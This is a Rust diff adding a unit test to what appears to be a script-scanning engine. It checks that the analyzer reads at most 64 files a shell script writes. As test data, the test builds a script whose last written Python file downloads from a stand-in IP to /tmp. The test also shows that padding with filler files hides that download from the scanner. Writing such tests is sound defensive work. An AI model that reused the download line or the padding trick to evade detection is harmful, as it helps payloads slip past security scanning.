@@ -138,3 +138,30 @@ impl Engine<'_> {
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    /// Hits in a shell script that writes `fillers` harmless Python files
+    /// and then one that downloads.
+    fn hits_after(fillers: usize) -> usize {
+        let mut text = String::from("#!/bin/sh\n");
+        for n in 0..fillers {
+            text.push_str(&format!("echo 'print({n})' > /tmp/f{n}.py\n"));
+        }
+        text.push_str(
+            "echo 'import urllib.request; urllib.request.urlretrieve(\"http://203.0.113.9/a\", \"/tmp/a\")' > /tmp/get.py\n",
+        );
+        let cat = crate::catalog::get();
+        crate::inspect::script::analyze(cat, "sh", text.as_bytes())
+            .hits
+            .len()
+    }
+
+    #[test]
+    fn at_most_64_written_files_are_read() {
+        // The download written as the 64th file is read; as the 65th, not.
+        let read = hits_after(63);
+        assert!(read > 0);
+        assert!(hits_after(64) < read);
+    }
+}
